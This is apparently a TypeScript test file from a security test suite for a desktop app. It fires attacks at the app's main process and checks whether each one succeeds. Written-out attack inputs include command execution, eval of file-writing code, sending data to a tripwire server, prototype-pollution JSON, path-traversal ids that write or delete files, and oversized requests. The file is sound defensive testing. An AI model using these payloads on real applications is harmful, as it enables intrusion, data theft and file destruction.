import type { Attempt, AttemptClass, Red } from '../attempt';
import { freshNumber } from '../fresh-number';

const textOf = (got: unknown): string => JSON.stringify(got ?? null);
const hasCanary = (red: Red, got: unknown): boolean => textOf(got).includes(red.canary);
const draft = { kind: 'retrieved', toolId: 'tool', removedMs: 1_700_000_000_000 };

/** On a channel that careless apps have. */
const onChannel = (
  id: string,
  wants: string,
  channel: string,
  args: (red: Red) => readonly unknown[],
  came: Attempt['came'],
): Attempt => ({
  id: `channel-${id}`,
  wants,
  by: `a message on the channel ${channel}`,
  weakness: 'raw-channels',
  run: (red) =>
    red.page.evaluate(([name, given]) => window.raw.invoke(name, ...given).catch(() => null), [
      channel,
      [...args(red)],
    ] as const),
  came,
});

/** Members named `__proto__`, which a careless merge writes into all objects of main. */
const polluting = (id: string, name: string, input: string): Attempt => ({
  id: `prototype-${id}`,
  wants: 'change the behaviour of main',
  by: `prototype pollution in ${name}`,
  weakness: 'schemas',
  run: ({ page }) =>
    page.evaluate(
      (args) => window.raw.invokeText('kartbord:call', args),
      `[${freshNumber()},${JSON.stringify(name)},${input}]`,
    ),
  came: async ({ inheritedInMain }) => (await inheritedInMain(`red-${id}`)) !== undefined,
});

const foreignName = (id: string, name: string): Attempt => ({
  id: `name-${id}`,
  wants: 'run a function of main that is not a call of the contract',
  by: `the name ${name}`,
  weakness: 'names',
  run: ({ call }) => call(name, undefined),
  came: (_red, got) => typeof got === 'object' && got !== null && !textOf(got).includes('bad-request'),
});

export const calls: AttemptClass = {
  title: 'Calls and channels of main',
  attempts: [
    onChannel('read', 'read a file on disk', 'fs.readFile', ({ home }) => [`${home}/canary.txt`], hasCanary),
    onChannel(
      'write',
      "write a file of the attacker's",
      'fs.writeFile',
      ({ home }) => [`${home}/channel-write`, 'written'],
      ({ isWritten }) => isWritten('channel-write'),
    ),
    onChannel(
      'exec',
      'run a program',
      'child_process.exec',
      ({ home }) => [`touch '${home}/channel-exec'`],
      ({ isWritten }) => isWritten('channel-exec'),
    ),
    onChannel(
      'open',
      'make the system open an address',
      'shell.openExternal',
      () => ['https://channel-open.invalid'],
      ({ opened }) => opened().some((one) => one.includes('channel-open')),
    ),
    onChannel(
      'fetch',
      "send data to the attacker's server",
      'net.fetch',
      ({ tripwire }) => [tripwire.url('channel-fetch')],
      ({ tripwire }) => tripwire.received('channel-fetch'),
    ),
    onChannel(
      'eval',
      'run code in main',
      'eval',
      ({ home }) => [`require('node:fs').writeFileSync(${JSON.stringify(`${home}/channel-eval`)}, '')`],
      ({ isWritten }) => isWritten('channel-eval'),
    ),
    {
      id: 'channel-port',
      wants: "write a file of the attacker's",
      by: 'a message with a port',
      weakness: 'raw-channels',
      run: ({ page, home }) =>
        page.evaluate((path) => window.raw.post('fs.appendFile', path), `${home}/channel-port`),
      came: ({ isWritten }) => isWritten('channel-port'),
    },
    foreignName('constructor', 'constructor'),
    foreignName('value-of', 'valueOf'),
    polluting('settings', 'settings.change', '{"__proto__":{"red-settings":1}}'),
    polluting('workspace', 'workspace.describe', '{"title":"t","__proto__":{"red-workspace":1}}'),
    polluting('draft', 'reporting.check', '{"id":"x","draft":{"__proto__":{"red-draft":1}}}'),
    polluting(
      'constructor',
      'connection.save',
      '{"id":null,"profile":{"constructor":{"prototype":{"red-constructor":1}}}}',
    ),
    {
      id: 'report-id-write',
      wants: "write a file of the attacker's",
      by: 'a draft whose id is a path',
      weakness: 'schemas',
      run: ({ call }) => call('reporting.keep', { id: '../../report-id-write', draft }),
      came: ({ isWritten }) => isWritten('report-id-write.draft.json'),
    },
    {
      id: 'report-id-remove',
      wants: 'delete a file of the person',
      by: 'discarding a draft whose id is a path',
      weakness: 'schemas',
      run: ({ call }) => call('reporting.discard', { id: '../../removable' }),
      came: ({ isWritten }) => !isWritten('removable.draft.json'),
    },
    {
      id: 'earlier-id',
      wants: 'read a file on disk',
      by: 'an earlier state whose id is a path',
      weakness: 'ids',
      run: ({ call }) => call('workspace.back', { id: '../kept' }),
      came: hasCanary,
    },
    {
      id: 'recent-id',
      wants: 'read a file on disk',
      by: 'a recent workspace whose id is a path',
      weakness: 'ids',
      run: ({ call, home }) => call('workspace.open', { recent: `${home}/private.kartbord`, language: 'en' }),
      came: hasCanary,
    },
    {
      id: 'receipt-id',
      wants: 'make the system open a folder',
      by: 'showing an exported file whose receipt is a path',
      weakness: 'receipts',
      run: ({ call, home }) => call('export.reveal', { receiptId: `${home}/receipt-id/file` }),
      came: (_red, got) => textOf(got).startsWith('{"ok":true'),
    },
    {
      id: 'size-text',
      wants: 'overload main',
      by: 'searching for a vessel by a name of a million letters',
      weakness: 'schemas',
      run: ({ call }) => call('vessels.find', { text: 'x'.repeat(1_000_000) }),
      came: (_red, got) => textOf(got).startsWith('{"ok":true'),
    },
    {
      id: 'size-ledger',
      wants: 'overload main',
      by: 'requesting a thousand million entries of the request log',
      weakness: 'schemas',
      run: ({ call }) => call('ledger.read', { limit: 1e9 }),
      came: (_red, got) => textOf(got).startsWith('{"ok":true'),
    },
  ],
};
